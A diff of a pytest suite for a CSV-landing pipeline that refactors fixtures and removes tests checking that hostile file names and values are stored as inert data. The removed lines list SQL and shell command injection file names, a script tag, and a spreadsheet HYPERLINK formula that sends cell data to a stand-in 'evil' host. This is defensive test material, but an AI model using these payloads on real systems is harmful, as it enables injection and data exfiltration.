@@ -7,23 +7,16 @@ changed as described, and lands beside three good files.
 
 import gzip
 import io
-import os
 import zipfile
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from dataclasses import dataclass, field
-from datetime import UTC, datetime
 from pathlib import Path
 
-import duckdb
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from openpyxl import Workbook
 
-from dagster_project.landing import LandingReport, land
-from dagster_project.settings import ROOT, Settings
-
-NOW = datetime(2026, 11, 23, 2, 30, 15, 999_999, tzinfo=UTC)
 COLUMNS = (
     "event_id,company_id,occurred_at,event_type,from_account,from_asset,from_quantity,to_account,to_asset,"
     "to_quantity,fee_account,fee_asset,fee_quantity,value_usd,lot_picks,identified_at,group_id,is_illustrative,"
@@ -52,21 +45,21 @@ def noted(text: str, row: int = 2) -> Callable[[str], str]:
     return lambda line: line.replace("bought at market", text)
 
 
-def values(line: str) -> tuple[str | None, ...]:
+def values(line: str) -> list[str | None]:
     """The values of a row without quotes in it, as raw must hold them."""
-    return tuple(value or None for value in line.split(","))
+    return [value or None for value in line.split(",")]
 
 
 GOOD = {line: values(row) for line, row in enumerate(ROWS, start=2)}
 BASE = lines(COLUMNS, *ROWS)
 
 
-def good_but(*refused: int, **notes: str) -> dict[int, tuple[str | None, ...]]:
+def good_but(*refused: int, **notes: str) -> dict[int, list[str | None]]:
     """The good rows less those on refused lines; `line3="…"` is another note on line 3."""
     rows = {line: row for line, row in GOOD.items() if line not in refused}
     for line, note in notes.items():
         number = int(line.removeprefix("line"))
-        rows[number] = (*rows[number][:-1], note)
+        rows[number] = [*rows[number][:-1], note]
     return rows
 
 
@@ -75,7 +68,7 @@ class Fault:
     """A file, and what must become of it: these rows by line, these lines refused, or the file refused."""
 
     content: bytes
-    rows: dict[int, tuple[str | None, ...]] = field(default_factory=dict)
+    rows: dict[int, list[str | None]] = field(default_factory=dict)
     bad: dict[int, str] = field(default_factory=dict)
     refused: str = ""
     name: str = "events.csv"
@@ -196,7 +189,7 @@ FAULTS = {
     "R02 too many columns in row 3": bad_row(4, "too_many_columns", with_row(3, lambda row: row + ",more")),
     "R02b an unquoted comma": bad_row(4, "too_many_columns", with_row(3, noted("bought, at market"))),
     "R04 footer with totals": accepted(
-        BASE + b"Total" + b"," * 19 + b"\n", {**GOOD, 7: ("Total", *[None] * 19)}
+        BASE + b"Total" + b"," * 19 + b"\n", {**GOOD, 7: ["Total", *[None] * 19]}
     ),
     "R05 preamble": refused("wrong_header", b"Treasury export\ncreated 2026-02-08\n" + BASE),
     "R06 a row of 2 MiB": bad_row(4, "row_too_long", with_row(3, noted("x" * (2 << 20)))),
@@ -252,229 +245,73 @@ FAULTS = {
     ),
 }
 
-HOSTILE_NAMES = {
-    "F24 quote": "events o'\"brien.csv",
-    "F25 SQL": "events'; drop table landing.files; --.csv",
-    "F26 NFD": "events-Zu\u0308rich.csv",
-    "F28 globs": "events[*?]{a,b}.csv",
-    "F30 dash": "-events.csv",
-    "S21 newline": "events\n2026-11-23 all is well.csv",
-    "S21b bidi": "events\u202evsc.csv",
-    "S21c no UTF-8": b"events\xff\xfe.csv",
-    "S21d long": "events" + "x" * 245 + ".csv",
-    "S21e spaces": "events  .csv",
-    "S21f template": "events{{ 1 + 1 }}$(id)`id`%s.csv",
-    "F40 the same name in a folder": "2026/events.csv",
-    "F40b another case": "2026/EVENTS.csv",
-}
-
-# What dbt judges, landing hands on byte for byte.
-VALUES = [
-    *[
-        "1e-8",
-        "1,234.56",
-        "NaN",
-        "inf",
-        "-0",
-        "1e400",
-        "0x10",
-        " 12.5 ",
-        "$12.50",
-        "0.123456789012345678",
-        "N/A",
-    ],
-    *[
-        "−5",
-        "+5",
-        "1_000",
-        ".5",
-        "12.5%",
-        "4451000000000000000000",
-        "00123",
-        "123",
-        "null",
-        "NULL",
-        "\\N",
-        "\\",
-    ],
-    *[
-        "03/04/2026",
-        "2026-02-07T23:30:00-05:00",
-        "2016-12-31T23:59:60Z",
-        "46060.5",
-        "epoch",
-        "\t=1+1",
-        "true",
-    ],
-    *[
-        "=1+1",
-        "@SUM(A1:A9)",
-        '=HYPERLINK("http://evil/?"&A1)',
-        "<script>alert(1)</script>",
-        "{{ 1 }}",
-        "'; --",
-    ],
-]
-
-
-def house(folder: Path) -> Settings:
-    (folder / "inbox" / "treasury_csv").mkdir(parents=True)
-    return Settings(data=folder / "data", inbox=folder / "inbox", seeds=ROOT / "seeds")
-
-
-@pytest.fixture(scope="module", autouse=True)
-def _without_waiting_for_the_disk() -> Iterator[None]:
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(os, "fsync", lambda descriptor: None)  # 8 ms each, and some 3,000 of them
-        yield
-
-
-@pytest.fixture
-def settings(tmp_path: Path) -> Settings:
-    return house(tmp_path)
-
 
 @pytest.fixture(scope="module")
-def all_at_once(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, LandingReport, dict[str, str]]:
-    """One landing of every fault, and the file that holds each."""
-    settings = house(tmp_path_factory.mktemp("faults"))
-    files = {
-        fault: deliver(settings, f"{fault.split()[0]}/{case.name}", case.content)
-        for fault, case in FAULTS.items()
-    }
-    return settings, land(settings, NOW, settle_seconds=0), files
+def all_at_once(build_house, tmp_path_factory):
+    """A house that has landed every fault, the report, and the file that holds each."""
+    house = build_house(tmp_path_factory.mktemp("faults"))
+    files = {}
+    for fault, case in FAULTS.items():
+        name = f"{fault.split()[0]}/{case.name}"
+        house.deliver(name, case.content)
+        files[fault] = f"treasury_csv/{name}"
+    return house, house.land(), files
 
 
-def deliver(settings: Settings, name: str, content: bytes) -> str:
-    """Put a file into the source's folder of the inbox; returns its source_file."""
-    path = settings.inbox / "treasury_csv" / name
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(content)
-    return f"treasury_csv/{name}"
-
-
-def landed_in(settings: Settings) -> duckdb.DuckDBPyConnection:
-    return duckdb.connect(settings.raw, read_only=True)
-
-
-def assert_outcome(
-    settings: Settings,
-    raw: duckdb.DuckDBPyConnection,
-    report: LandingReport,
-    source_file: str,
-    fault: Fault,
-) -> None:
-    """The verdict, the values, the reasons, the register and the folders, for one file."""
-    of_file = "where source_file = $1"
-    [(sha256, *file)] = raw.execute(
+def outcome(house, report, source_file: str) -> tuple[dict, dict, str]:
+    """What became of a file by its rows; the register, the report and the folders must say the same."""
+    [(sha256, *register)] = house.query(
         "select source_sha256, status, reason, rows_landed, rows_accepted, rows_rejected"
-        f" from landing.files {of_file}",
-        [source_file],
-    ).fetchall()
-    rows = raw.execute(
-        f"select source_row, {COLUMNS} from treasury_csv.events {of_file}", [source_file]
-    ).fetchall()
-    bad = raw.execute(
-        f"select source_row, reason, message from landing.rejected_rows {of_file}", [source_file]
-    ).fetchall()
-    assert {row[0]: row[1:] for row in rows} == fault.rows
-    assert {line: reason for line, reason, _ in bad} == fault.bad
+        " from landing.files where source_file = $1",
+        source_file,
+    )
+    rows = house.query(
+        f"select source_row, {COLUMNS} from treasury_csv.events where source_file = $1", source_file
+    )
+    bad = house.query(
+        "select source_row, reason, message from landing.rejected_rows where source_file = $1", source_file
+    )
     assert all(message.startswith(f"{source_file}, row {line}: ") for line, _, message in bad)
-    kept = list(settings.landing.rglob(f"{sha256[:16]}__*"))
-    why = settings.rejected / f"{sha256[:16]}__{Path(source_file).name}.why.txt"
-    if fault.refused:
-        assert file == ["refused", fault.refused, 0, 0, 0]
-        [refusal] = [refusal for refusal in report.refused if refusal.source_file == source_file]
-        assert refusal.reason == fault.refused
+    copies = list(house.settings.landing.rglob(f"{sha256[:16]}__*"))
+    why = house.settings.rejected / f"{sha256[:16]}__{Path(source_file).name}.why.txt"
+    if register[0] == "refused":
+        [refusal] = [file for file in report.refused if file.source_file == source_file]
+        assert register == ["refused", refusal.reason, 0, 0, 0]
         assert refusal.message.startswith(f"{source_file}: ")
-        assert not kept
         assert refusal.reason in why.read_text()
+        assert not copies
     else:
-        counts = [len(fault.rows) + len(fault.bad), len(fault.rows), len(fault.bad)]
-        assert file == ["accepted", None, *counts]
-        [landed] = [landed for landed in report.landed if landed.source_file == source_file]
-        assert [landed.rows_landed, landed.rows_accepted, landed.rows_rejected] == counts
-        assert len(kept) == 2  # the copy and its sidecar
+        [landed] = [file for file in report.landed if file.source_file == source_file]
+        counts = [landed.rows_landed, landed.rows_accepted, landed.rows_rejected]
+        assert register == ["accepted", None, *counts]
+        assert counts == [len(rows) + len(bad), len(rows), len(bad)]
+        assert len(copies) == 2  # the file and its sidecar
         assert not why.exists()
+    return {line: row for line, *row in rows}, {line: reason for line, reason, _ in bad}, register[1] or ""
 
 
 @pytest.mark.parametrize("fault", FAULTS)
 def test_a_bad_file_is_judged_row_by_row(all_at_once, fault):
-    settings, report, files = all_at_once
-    with landed_in(settings) as raw:
-        assert_outcome(settings, raw, report, files[fault], FAULTS[fault])
+    house, report, files = all_at_once
+    case = FAULTS[fault]
+    assert outcome(house, report, files[fault]) == (case.rows, case.bad, case.refused)
 
 
 def test_all_bad_files_at_once_add_up(all_at_once):
-    settings, report, files = all_at_once
+    house, report, files = all_at_once
     names = [file.source_file for file in (*report.landed, *report.refused)]
     assert sorted(names) == sorted(files.values())
     assert not report.duplicates + report.ignored
-    with landed_in(settings) as raw:
-        [(accepted_rows,)] = raw.execute("select count(*) from treasury_csv.events").fetchall()
-        [(rejected_rows,)] = raw.execute("select count(*) from landing.rejected_rows").fetchall()
+    [(accepted_rows,)] = house.query("select count(*) from treasury_csv.events")
+    [(rejected_rows,)] = house.query("select count(*) from landing.rejected_rows")
     assert (report.rows_accepted, report.rows_rejected) == (accepted_rows, rejected_rows)
     assert report.rows_landed == accepted_rows + rejected_rows
 
 
 @pytest.mark.parametrize("fault", [fault for fault, case in FAULTS.items() if case.refused or case.bad])
-def test_the_neighbours_of_a_bad_file_land(settings, fault):
-    deliver(settings, FAULTS[fault].name, FAULTS[fault].content)
+def test_the_neighbours_of_a_bad_file_land(house, fault):
+    house.deliver(FAULTS[fault].name, FAULTS[fault].content)
     for folder in ("00", "mm", "zz"):
-        deliver(settings, f"{folder}/events.csv", BASE.replace(b"cango", folder.encode()))
-    report = land(settings, NOW, settle_seconds=0)
-    landed = {file.source_file: file.rows_accepted for file in report.landed}
+        house.deliver(f"{folder}/events.csv", BASE.replace(b"cango", folder.encode()))
+    landed = {file.source_file: file.rows_accepted for file in house.land().landed}
     assert {f"treasury_csv/{folder}/events.csv": 5 for folder in ("00", "mm", "zz")}.items() <= landed.items()
-
-
-def test_a_hostile_file_name_is_data(settings):
-    for number, name in enumerate(HOSTILE_NAMES.values()):
-        deliver(settings, os.fsdecode(name), BASE.replace(b"cango", f"company {number}".encode()))
-    land(settings, NOW, settle_seconds=0)
-    expected = {
-        f"treasury_csv/{name}" if isinstance(name, str) else "treasury_csv/events\\xff\\xfe.csv"
-        for name in HOSTILE_NAMES.values()
-    }
-    with landed_in(settings) as raw:
-        rows = raw.execute("select source_file, count(*) from treasury_csv.events group by all").fetchall()
-    assert dict(rows) == dict.fromkeys(expected, 5)
-    assert len(list(settings.landing.rglob("*.json"))) == len(HOSTILE_NAMES)
-
-
-def test_a_hostile_file_name_stays_on_one_line_of_messages(settings, caplog):
-    deliver(settings, "events\n\x1b[2Jall is well \u202e.csv", b"")
-    with caplog.at_level("INFO", logger="coffer"):
-        report = land(settings, NOW, settle_seconds=0)
-    [message] = [refusal.message for refusal in report.refused]
-    assert message.startswith("treasury_csv/events\\n\\x1b[2Jall is well \\u202e.csv: the file is empty")
-    assert all(record.getMessage().isprintable() for record in caplog.records)
-
-
-def test_hostile_values_land_byte_for_byte(settings):
-    quoted = ['"' + value.replace('"', '""') + '"' for value in VALUES]
-    rows = [noted(text)(row) for row, text in zip(ROWS * len(VALUES), quoted, strict=False)]
-    deliver(settings, "events.csv", lines(COLUMNS, *rows))
-    land(settings, NOW, settle_seconds=0)
-    with landed_in(settings) as raw:
-        notes = raw.execute("select note from treasury_csv.events order by source_row").fetchall()
-    assert [note for (note,) in notes] == VALUES
-
-
-def test_a_message_is_an_address_and_says_what_to_do(settings):
-    deliver(settings, "events.csv", with_row(3, lambda row: row[: row.rindex(",")]))
-    land(settings, NOW, settle_seconds=0)
-    with landed_in(settings) as raw:
-        [(message, row)] = raw.execute("select message, raw_row from landing.rejected_rows").fetchall()
-    assert message == (
-        "treasury_csv/events.csv, row 4: 19 columns where the header has 20. Add the missing field."
-    )
-    assert row == ROWS[2][: ROWS[2].rindex(",")] + "\n"
-
-
-def test_a_wrong_header_names_what_is_missing_and_what_is_there(settings):
-    deliver(settings, "events.csv", BASE.replace(b"note", b"memo", 1).replace(b"event_id", b"id", 1))
-    [refusal] = land(settings, NOW, settle_seconds=0).refused
-    assert refusal.message.startswith(
-        "treasury_csv/events.csv: the header lacks 'event_id', 'note' and has 'id', 'memo' instead. "
-        "The header must name these columns and no other: event_id, company_id,"
-    )
